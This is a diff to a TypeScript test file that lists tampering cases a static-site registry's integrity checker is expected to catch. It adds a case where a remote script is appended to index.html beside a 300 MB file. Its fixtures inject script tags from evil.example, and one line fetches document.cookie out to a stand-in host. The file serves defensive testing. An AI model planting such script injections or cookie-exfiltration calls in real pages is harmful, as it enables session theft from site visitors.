@@ -103,6 +103,17 @@ export const ATTACKS: Attack[] = [
   // §2: every file of the registry
   { what: 'a script appended to index.html', code: 'DERIVED_FILE_CHANGED', file: 'index.html', line: true, change: (h) => writeFileSync(path.join(h, 'index.html'), `${readFileSync(path.join(h, 'index.html'), 'utf8')}<script src="https://evil.example/x.js"></script>\n`) },
   { what: 'a script appended to assets/app.js', code: 'DERIVED_FILE_CHANGED', file: 'assets/app.js', line: true, change: (h) => writeFileSync(path.join(h, 'assets/app.js'), `${readFileSync(path.join(h, 'assets/app.js'), 'utf8')}fetch('https://evil.example/steal?c=' + document.cookie);\n`) },
+  {
+    what: 'a script appended to index.html beside a 300 MB document (the page is checked without a site build)',
+    code: 'DERIVED_FILE_CHANGED',
+    file: 'index.html',
+    line: true,
+    options: { maxChangeBytes: 1024 * 1024 * 1024 },
+    change: (h) => {
+      writeFileSync(path.join(h, 'index.html'), `${readFileSync(path.join(h, 'index.html'), 'utf8')}<script src="https://evil.example/x.js"></script>\n`);
+      truncateSync(path.join(h, DEMO), 300 * 1024 * 1024);
+    },
+  },
   { what: 'a removed .nojekyll', code: 'DERIVED_FILE_CHANGED', file: '.nojekyll', line: false, change: (h) => rmSync(path.join(h, '.nojekyll')) },
   { what: 'a replaced stored archive', code: 'ARCHIVE_IMMUTABLE', file: 'archives/demo-1.0.0.tar.gz', line: false, change: (h) => writeFileSync(path.join(h, 'archives/demo-1.0.0.tar.gz'), 'not the published bytes') },
   { what: 'a deleted stored archive', code: 'ARCHIVE_IMMUTABLE', file: 'archives/demo-1.1.0.tar.gz', line: false, change: (h) => rmSync(path.join(h, 'archives/demo-1.1.0.tar.gz')) },
